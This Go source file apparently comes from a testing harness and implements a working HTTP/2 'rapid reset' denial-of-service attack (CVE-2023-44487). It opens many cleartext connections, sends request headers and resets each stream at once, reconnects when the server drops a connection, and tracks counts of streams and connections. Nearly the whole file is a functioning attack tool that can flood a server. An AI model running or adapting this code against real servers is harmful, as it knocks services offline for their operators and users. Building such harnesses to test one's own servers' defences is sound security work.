package attack

import (
	"bufio"
	"bytes"
	"context"
	"net"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// ResetProgress counts a rapid-reset attack as it runs.
type ResetProgress struct {
	streams    atomic.Int64
	conns      atomic.Int64
	closedBySv atomic.Int64
}

// Streams is how many streams the attack opened and reset: wrote to its
// connections. A server that closes a connection may not have read the
// last of them, up to a socket buffer's worth.
func (p *ResetProgress) Streams() int64 { return p.streams.Load() }

// Conns is how many connections it opened.
func (p *ResetProgress) Conns() int64 { return p.conns.Load() }

// ClosedByServer is how many of them the server closed (GOAWAY or EOF).
func (p *ResetProgress) ClosedByServer() int64 { return p.closedBySv.Load() }

// Resets is an HTTP/2 rapid reset attack (CVE-2023-44487).
type Resets struct {
	// Path of every stream; default GetTask.
	Path string
	// PerConn, when not zero, is the most streams one connection opens
	// before the attack stops using it (without closing it).
	PerConn int
	// Reconnect, when set, opens a new connection whenever the server
	// closes one, until ctx ends.
	Reconnect bool
}

// RapidReset opens conns cleartext HTTP/2 connections and on each, as fast
// as it can, opens a stream (HEADERS without END_STREAM, so the request
// waits for a body) and resets it at once. It returns when ctx ends or
// every connection is closed and not replaced.
func RapidReset(ctx context.Context, target Target, conns int, r Resets, p *ResetProgress) {
	if r.Path == "" {
		r.Path = "/tasks.v1.TaskService/GetTask"
	}
	var wg sync.WaitGroup
	for range conns {
		wg.Go(func() {
			for resetConn(ctx, target, r, p) && r.Reconnect && ctx.Err() == nil {
			}
		})
	}
	wg.Wait()
}

// resetConn runs the attack on one connection; true when the server
// closed it.
func resetConn(ctx context.Context, target Target, r Resets, p *ResetProgress) bool {
	var d net.Dialer
	conn, err := d.DialContext(ctx, "tcp", target.Addr)
	if err != nil {
		return false
	}
	defer conn.Close()
	p.conns.Add(1)
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()

	bw := bufio.NewWriterSize(conn, 64<<10)
	var mu sync.Mutex // the reader acknowledges SETTINGS on the same framer
	fr := http2.NewFramer(bw, conn)
	mu.Lock()
	_, _ = bw.WriteString(http2.ClientPreface)
	_ = fr.WriteSettings()
	_ = bw.Flush()
	mu.Unlock()

	closed := make(chan struct{})
	go func() {
		defer close(closed)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			switch f := f.(type) {
			case *http2.GoAwayFrame:
				return
			case *http2.SettingsFrame:
				if !f.IsAck() {
					mu.Lock()
					_ = fr.WriteSettingsAck()
					_ = bw.Flush()
					mu.Unlock()
				}
			}
		}
	}()

	block := headerBlock(target, r.Path)
	for id := uint32(1); r.PerConn == 0 || int(id/2) < r.PerConn; id += 2 {
		if isClosed(closed) {
			break
		}
		mu.Lock()
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
		if err == nil {
			err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err == nil && id%64 == 63 {
			err = bw.Flush()
		}
		mu.Unlock()
		if err != nil {
			break
		}
		p.streams.Add(1)
	}
	mu.Lock()
	_ = bw.Flush()
	mu.Unlock()
	select {
	case <-closed:
		if ctx.Err() != nil {
			return false
		}
		p.closedBySv.Add(1)
		return true
	case <-ctx.Done():
		return false
	}
}

func isClosed(c <-chan struct{}) bool {
	select {
	case <-c:
		return true
	default:
		return false
	}
}

// headerBlock is one request's headers, HPACK-encoded once and sent for
// every stream (the literals are indexed again each time; valid, and as
// costly for the server to decode as a real client's).
func headerBlock(target Target, path string) []byte {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	fields := []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: target.Addr},
		{Name: ":path", Value: path},
		{Name: "content-type", Value: "application/proto"},
	}
	if target.Token != "" {
		fields = append(fields, hpack.HeaderField{Name: "authorization", Value: "Bearer " + target.Token, Sensitive: true})
	}
	for _, f := range fields {
		_ = enc.WriteField(f)
	}
	return buf.Bytes()
}
